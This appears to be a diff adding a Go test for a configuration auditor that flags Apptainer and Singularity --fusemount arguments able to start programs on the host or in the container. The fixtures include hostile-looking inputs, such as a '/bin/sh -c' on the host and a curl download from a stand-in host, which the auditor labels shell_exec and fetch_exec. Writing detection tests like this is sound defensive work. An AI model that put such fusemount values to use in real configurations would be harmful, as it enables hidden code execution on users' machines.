@@ -4109,3 +4109,18 @@ func TestAuditComposeRemoteFiles(t *testing.T) {
 		{"local files", stdio("docker", "compose", "-f", "compose.yaml", "-f", "./override.yaml", "up"), []string{}, true, false},
 	})
 }
+
+// Apptainer's FUSE programs (ruleset 2026.12.126): apptainer run
+// --fusemount "host:PROGRAM ARGS… MOUNTPOINT" starts PROGRAM on the host
+// (or in the container), and it went unjudged.
+func TestAuditApptainerFuseMount(t *testing.T) {
+	runCases(t, []auditCase{
+		{"a script on the host", stdio("apptainer", "exec", "--fusemount", "host:/bin/sh -c x /mnt", "server.sif", "server"), []string{"danger shell_exec mcp.args[2]"}, false, true},
+		{"a package runner, joined", stdio("apptainer", "run", "--fusemount=host-daemon:npx -y fuse-thing /mnt", "server.sif"), []string{"warn unpinned mcp.args[1]"}, true, false},
+		{"in the container", stdio("singularity", "run", "--fusemount", "container:curl -s https://x.example/a -o /tmp/a /mnt", "server.sif"), []string{"danger fetch_exec mcp.args[2]"}, true, true},
+		// Look-alikes.
+		{"sshfs", stdio("apptainer", "run", "--fusemount", "container:sshfs me@host:/data /mnt", "server.sif"), []string{}, false, false},
+		{"a type apptainer refuses", stdio("apptainer", "run", "--fusemount", "elsewhere:sh -c x /mnt", "server.sif"), []string{}, false, false},
+		{"no mount point", stdio("apptainer", "run", "--fusemount", "host:sh", "server.sif"), []string{}, false, false},
+	})
+}
